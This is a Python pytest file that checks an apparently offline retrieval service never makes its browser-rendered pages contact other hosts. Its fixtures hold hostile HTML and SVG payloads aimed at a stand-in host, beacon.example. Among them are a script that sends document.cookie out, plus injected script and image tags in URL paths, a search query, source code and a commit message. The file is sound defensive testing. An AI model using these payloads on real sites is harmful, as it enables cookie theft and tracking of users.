"""A browser opens everything that the service can show, and asks nobody but the service for anything."""

from __future__ import annotations

import http.server
import os
import re
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlencode
from uuid import uuid4

import pytest
from starlette.types import ASGIApp, Receive, Scope, Send

from api.app import create_app
from api.mcp.description import PATH as TOOL_DESCRIPTION
from rag.domain.principal import Scope as KeyScope
from tests.airgap.browser import HINT, browsing, host_of, program
from tests.airgap.flow import files
from tests.support.furnishing import SCIM_USER, furnished, until
from tests.support.git_repository import GitRepository
from tests.support.live import served
from tests.support.probing import Slot, Target, api, request_for, routes
from tests.support.running import Caller, Running, running, settings_for

pytestmark = pytest.mark.skipif(program() is None, reason=HINT)

SWITCHES = re.compile(r"HF_|TRANSFORMERS_|DO_NOT_TRACK|SCARF|VLLM_|RAY_|OTEL_|TOKENIZERS|.*_PROXY$", re.I)
HOSTILE = """<!DOCTYPE html><html><head><link rel="stylesheet" href="//beacon.example/x.css">
<meta http-equiv="refresh" content="1;url=http://beacon.example/gone"></head><body>
<img src="http://beacon.example/x.png"><script src="http://beacon.example/x.js"></script>
<script>fetch("http://beacon.example/fetched?" + document.cookie); document.title = "ran"</script>
<iframe src="http://beacon.example/frame"></iframe><form action="http://beacon.example/form"></form>공지</body></html>"""
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://beacon.example/x.png"/>'
    '<script>fetch("http://beacon.example/svg")</script><text>그림</text></svg>'
)


class WithKey:
    """The application as a browser with a session would reach it: each request carries the key."""

    def __init__(self, app: ASGIApp, key: str) -> None:
        self._app, self._key = app, key.encode()

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            scope = {**scope, "headers": [*scope["headers"], (b"authorization", b"Bearer " + self._key)]}
        await self._app(scope, receive, send)


@contextmanager
def static(page: str, kind: str = "text/html") -> Iterator[str]:
    """A page from any other server: what the service must not be."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", f"{kind}; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def log_message(self, format: str, *arguments: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            thread.join()


def foreign(address: str, requested: list[str]) -> list[str]:
    """What a page asked of others than the service."""
    return [url for url in requested if not url.startswith((address, "data:", "about:", "blob:", "chrome-error:"))]


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("GET http://beacon.example/x HTTP/1.1", "beacon.example"),
        ("CONNECT beacon.example:443 HTTP/1.1", "beacon.example"),
        ("nonsense", "nonsense"),
    ],
)
def test_the_proxy_reads_hosts(line: str, host: str) -> None:
    assert host_of(line) == host


@pytest.mark.slow
def test_the_count_bites() -> None:
    """The same page, served as HTML by somebody else, is seen to phone by both counts; an empty one by none."""
    with browsing() as browser:
        with static("<!DOCTYPE html><p>nothing</p>") as address:
            assert not foreign(address, browser.open(address)) and not browser.proxied
        with static(HOSTILE) as address:
            seen = foreign(address, browser.open(address))
    assert {f"http://beacon.example/{name}" for name in ("x.css", "x.png", "x.js")} <= set(seen), seen
    assert "beacon.example" in browser.proxied


_OF_REPOSITORY = "/api/v1/repositories/{repository_id}"
SHOWN_OTHERWISE = {
    "/api/v1/me/keys": 403,  # of an account: this is a key of the tenant's
    "/auth/session": 404,  # of a browser that signed in: this one comes with a key
    "/auth/{provider}/login": 404,  # no provider is configured, and a page of one would not be ours
    "/auth/{provider}/callback": 404,
}
"""What not even the owner of everything is shown."""
LOGIN = '''"""로그인. <img src="http://beacon.example/docstring.png">"""


def login(user: str) -> bool:
    """http://beacon.example/login <script src="http://beacon.example/x.js"></script>"""
    return bool(user)
'''


def pages(service: Running, owner: Caller, folder: Path) -> Iterator[tuple[str, int]]:
    """Every address that a browser could be sent to, and what its owner is answered: each GET route with ids of what is there,
    each original that was uploaded, and refusals."""
    objects = furnished(service, owner, "shown-too")
    repository, head = indexed(owner, folder)
    filling = objects.filling | {"repository": repository}
    words = {
        (f"{_OF_REPOSITORY}/commits/{{commit}}", "commit"): head,
        (f"{_OF_REPOSITORY}/changes", "from"): head,
        (f"{_OF_REPOSITORY}/files/{{path}}", "path"): "src/login.py",
        ("/api/v1/code/symbols", "name"): "login",
        ("/api/v1/code/references", "name"): "login",
        ("/scim/v2/ResourceTypes/{name}", "name"): "User",
        ("/scim/v2/Schemas/{name}", "name"): SCIM_USER,
    }
    description = api()
    for method, path, _ in routes(description):
        if method == "GET" and not path.endswith("/events"):  # a stream without an end is no page
            wanted = request_for(description, Target(method, path, ("nowhere",), Slot("")), "", filling, words)
            query = wanted.arguments.get("params", {})
            yield wanted.path + (f"?{urlencode(query)}" if query else ""), SHOWN_OTHERWISE.get(path, 200)
    listed = owner.get("/api/v1/collections/shown/documents", params={"limit": 100}).json()["documents"]
    yield from ((f"/api/v1/documents/{item['id']}/content", 200) for item in listed)
    yield from (("/api/v1/openapi.json", 200), (TOOL_DESCRIPTION, 200))
    for path in ("/", "/docs", "/redoc", "/nowhere/<script>fetch('http://beacon.example/')</script>", "/v1/nowhere"):
        yield path, 404
    yield "/api/v1/search?question=%3Cimg%20src%3Dhttp%3A%2F%2Fbeacon.example%2Fx%3E", 200
    yield f"/api/v1/chunks/{uuid4()}", 404


def indexed(owner: Caller, folder: Path) -> tuple[str, str]:
    """A repository in step with a folder: its id, and its commit."""
    source = GitRepository.new(folder / "pay", {"src/login.py": LOGIN, "README.md": HOSTILE})
    head = source.commit("로그인 <img src=http://beacon.example/commit>", {"src/login.py": LOGIN + "\n"})
    body = {"collection": owner.collection(kind="code"), "url": str(source.folder), "name": "pay"}
    made = owner.post("/api/v1/repositories", json=body)
    assert made.status_code == 201, made.text
    identity = made.json()["repository"]["id"]
    until(lambda: owner.get(f"/api/v1/repositories/{identity}").json()["commit"] == head)
    return identity, head


@pytest.mark.slow
@pytest.mark.timeout(600)
@pytest.mark.parametrize("switches", ["as the product sets them", "unset"])
def test_no_page_asks_anybody_else(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, switches: str) -> None:
    for name in [name for name in os.environ if SWITCHES.match(name)]:
        monkeypatch.delenv(name)
    if switches != "unset":
        for name in ("HF_HUB_OFFLINE", "HF_HUB_DISABLE_TELEMETRY", "DO_NOT_TRACK", "SCARF_NO_ANALYTICS"):
            monkeypatch.setenv(name, "1")
    git = tmp_path / "git"
    git.mkdir()
    rag = {"embedding": {"dense": "none"}, "repositories": {"roots": [str(git)], "poll_s": 0}}
    with running(settings_for(tmp_path / "data", {"rag": rag})) as service:
        key = service.key(KeyScope.ADMIN, KeyScope.OPERATOR, tenant="shown")
        owner = Caller(service, {"Authorization": f"Bearer {key}"})
        owner.collection("shown")
        originals = {"공지.html": HOSTILE, "그림.svg": SVG, "글.xhtml": HOSTILE}
        originals |= {
            name: data for name, data in files().items() if name.endswith((".md", ".pdf", ".mhtml", ".eml", ".xml"))
        }
        owner.ingest("shown", originals)
        shown = list(pages(service, owner, git))
        answered = [(page, status, owner.get(page).status_code) for page, status in shown]
        assert not [item for item in answered if item[1] != item[2]], "a page is not what its owner should see"
        with browsing() as browser, served(WithKey(create_app(service.services), key), lifespan="off") as address:  # type: ignore[arg-type]
            asked = [(page, browser.open(address + page.replace('"', "%22"))) for page, _ in shown]
    assert all(requested for _, requested in asked), "a page was not opened"
    wanted = [(page, url) for page, requested in asked for url in foreign(address, requested)]
    full = sum(status == 200 for _, status in shown)
    counts = f"{len(shown)} pages, {full} of them shown, {sum(len(requested) for _, requested in asked)} requests"
    told = f"{counts}, {len(wanted)} to foreign hosts, {len(browser.proxied)} at the proxy"
    sys.stdout.write(f"in the browser, switches {switches}: {told}\n")
    assert not wanted and not browser.proxied, (wanted, browser.proxied)
